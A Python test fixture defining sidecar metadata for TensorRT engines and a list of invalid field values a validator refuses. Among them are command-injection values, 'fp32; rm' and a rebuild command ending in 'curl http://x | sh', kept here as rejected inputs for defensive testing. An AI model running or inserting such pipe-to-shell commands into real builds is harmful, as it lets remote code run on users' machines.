"""Sidecars of TensorRT engines, and entries that none may have."""

from __future__ import annotations

import hashlib
from typing import Any

from cavsync.deploy.runtime.sidecar import BatchProfile, Sidecar, rebuild_command
from cavsync.manifest import TensorSpec


def sidecar_of(plan: bytes, inputs: list[TensorSpec], outputs: list[TensorSpec], batch: BatchProfile) -> Sidecar:
    """Return the sidecar of the engine `plan`, built for GPUs of compute capability 8.9."""
    return Sidecar(
        graph="visual_encoder",
        runtime="tensorrt_rtx",
        library_version="1.7.1.116",
        cuda_version="13",
        precision="fp16",
        compute_capabilities=["89"],
        inputs=inputs,
        outputs=outputs,
        batch=batch,
        engine_sha256=hashlib.sha256(plan).hexdigest(),
        source_sha256="0" * 64,
        size_bytes=len(plan),
        rebuild_command=rebuild_command("tensorrt_rtx", "fp16", ["89"]),
    )


UNUSABLE: list[tuple[str, Any]] = [
    ("graph", "decoder"),
    ("graph", ["visual_encoder"]),
    ("runtime", "onnxruntime"),
    ("library_version", "latest"),
    ("library_version", "1.7\n"),
    ("cuda_version", None),
    ("precision", "fp32; rm"),
    ("compute_capabilities", "89"),
    ("compute_capabilities", ["8.9"]),
    ("compute_capabilities", [89]),
    ("compute_capabilities", ["89"] * 17),
    ("inputs", []),
    ("inputs", [{"name": "frames", "shape": ["batch", -1], "dtype": "uint8"}]),
    ("inputs", [{"name": "frames", "shape": ["batch", "width"], "dtype": "uint8"}]),
    ("inputs", [{"name": "frames", "shape": [1, 3], "dtype": "uint8"}]),
    ("inputs", [{"name": "frames", "shape": ["batch", 3], "dtype": "object"}]),
    ("inputs", [{"name": "frames", "shape": ["batch", True], "dtype": "uint8"}]),
    ("inputs", [{"name": "frames", "shape": ["batch", 1 << 20, 1 << 20], "dtype": "uint8"}]),
    ("inputs", [{"name": "a b", "shape": ["batch", 3], "dtype": "uint8"}]),
    ("outputs", [{"name": "embedding", "shape": ["batch", 4]}]),
    ("outputs", 17 * [{"name": "embedding", "shape": ["batch", 4], "dtype": "float32"}]),
    ("batch", {"min": 8, "opt": 4, "max": 64}),
    ("batch", {"min": 1, "opt": 4, "max": 1 << 30}),
    ("batch", {"min": 1, "opt": 4, "max": 8.0}),
    ("batch", {"min": 1, "max": 8}),
    ("batch", {"min": 0, "opt": 4, "max": 8}),
    ("engine_sha256", "0" * 63),
    ("source_sha256", "G" * 64),
    ("size_bytes", 0),
    ("size_bytes", True),
    ("rebuild_command", "cavsync export RUN; curl http://x | sh"),
    ("rebuild_command", "cavsync export RUN\n"),
    ("rebuild_command", "cavsync export " + "x" * 301),
    ("format_version", 2),
    ("format_version", True),
]
"""Names of entries with values that are refused."""
